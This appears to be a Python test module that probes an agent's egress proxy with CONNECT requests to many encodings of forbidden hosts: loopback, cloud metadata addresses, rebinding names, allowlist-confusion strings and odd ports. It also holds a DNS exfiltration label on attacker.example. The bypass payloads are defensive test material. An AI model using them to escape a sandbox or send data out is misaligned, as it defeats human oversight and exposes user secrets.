"""CONNECT to where an agent may not go, in every notation of a host (group ``connect``)."""

from __future__ import annotations

from .kit import REGISTER, Plan, Try
from .wires import connect, proxy, sent, tunnelled

HOSTS = {
    "loopback": "127.0.0.1",
    "loopback_short": "127.1",
    "loopback_three": "127.0.1",
    "loopback_other": "127.8.8.8",
    "decimal": "2130706433",
    "octal": "0177.0.0.1",
    "octal_whole": "017700000001",
    "hex": "0x7f.0.0.1",
    "hex_whole": "0x7f000001",
    "mixed": "0x7f.0.01",
    "zeros": "127.000.000.001",
    "overflow": "4294967297.0.0.1",
    "unspecified": "0.0.0.0",  # noqa: S104 - a target
    "zero": "0",
    "six": "[::1]",
    "six_long": "[0:0:0:0:0:0:0:1]",
    "six_bare": "::1",
    "six_unspecified": "[::]",
    "mapped": "[::ffff:127.0.0.1]",
    "mapped_hex": "[::ffff:7f00:1]",
    "compatible": "[::127.0.0.1]",
    "nat64": "[64:ff9b::7f00:1]",
    "six_to_four": "[2002:7f00:1::]",
    "zone": "[fe80::1%lo]",
    "zone_encoded": "[::1%25lo]",
    "future": "[v1.127.0.0.1]",
    "metadata": "169.254.169.254",
    "metadata_decimal": "2852039166",
    "metadata_hex": "0xa9fea9fe",
    "metadata_six": "[fd00:ec2::254]",
    "metadata_name": "metadata.google.internal",
    "public": "1.1.1.1",
    "public_six": "[2606:4700:4700::1111]",
    "multicast": "239.255.255.250",
    "localhost": "localhost",
    "localhost_dot": "localhost.",
    "localhost_case": "LocalHost",
    "localhost_domain": "localhost.localdomain",
    "localhost_below": "any.localhost",
    "full_stop": "127\u30020\u30020\u30021",
    "full_width": "\uff11\uff12\uff17.\uff10.\uff10.\uff11",
    "circled": "\u2460\u2461\u2466.\u24ea.\u24ea.\u2460",
    "circled_name": "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3",
    "soft_hyphen": "local\u00adhost",
    "zero_width": "local\u200bhost",
    "percent": "%31%32%37.0.0.1",
    "rebinding": "127.0.0.1.nip.io",
    "arpa": "1.0.0.127.in-addr.arpa",
    "denied": "DENIED",
    "denied_dot": "DENIED.",
    "inward": "INWARD",
    "inward_dot": "INWARD.",
    "below_allowed": "secret.ALLOWED",
    "before_allowed": "xALLOWED",
    "after_allowed": "ALLOWED.attacker.example",
    "dot_before": ".ALLOWED",
    "two_dots": "ALLOWED..",
    "user": "ALLOWED@127.0.0.1",
    "user_port": "ALLOWED:PORT@127.0.0.1",
    "fragment": "127.0.0.1#ALLOWED",
    "query": "127.0.0.1?ALLOWED",
    "slash": "127.0.0.1/ALLOWED",
    "backslash": "127.0.0.1\\ALLOWED",
    "nul": "ALLOWED\x00.attacker.example",
    "nul_encoded": "ALLOWED%00.attacker.example",
    "tab": "127.0.0.1\tALLOWED",
    "long": "a" * 300 + ".ALLOWED",
    "exfiltration": "c2VjcmV0LW9mLXRoZS11c2Vy.attacker.example",
    "empty": "",
    "star": "*",
}
PORTS = {
    "ssh": "22",
    "smtp": "25",
    "dns": "53",
    "zero": "0",
    "none": "",
    "overflow": "OVERFLOW",
    "negative": "-PORT",
    "plus": "+PORT",
    "blank": " PORT",
    "hex": "HEX",
    "two": "PORT:22",
    "list": "PORT,22",
    "digits": "\u0664\u0664\u0663",
    "control": "CONTROL",
}


def _filled(text: str, plan: Plan) -> str:
    return (
        text.replace("ALLOWED", plan.allowed)
        .replace("DENIED", plan.denied)
        .replace("INWARD", plan.inward)
        .replace("CONTROL", str(plan.control))
        .replace("OVERFLOW", str(65536 + plan.port))
        .replace("HEX", hex(plan.port))
        .replace("PORT", str(plan.port))
    )


def _host(host: str) -> Try:
    def run(plan: Plan) -> str | None:
        for port in (plan.port, plan.tcp):
            answer = sent(proxy(), connect(f"{_filled(host, plan)}:{port}"))
            if reached := tunnelled(answer, plan):
                return reached
        return None

    return run


def _port(port: str) -> Try:
    def run(plan: Plan) -> str | None:
        return tunnelled(sent(proxy(), connect(f"{plan.allowed}:{_filled(port, plan)}")), plan)

    return run


for _name, _target in HOSTS.items():
    REGISTER.add(
        f"connect.host_{_name}",
        f"a tunnel to {ascii(_target)[1:-1][:40]}",
        _host(_target),
        seconds=25.0,
    )
for _name, _target in PORTS.items():
    REGISTER.add(
        f"connect.port_{_name}", f"a tunnel to port {ascii(_target)[1:-1]}", _port(_target)
    )
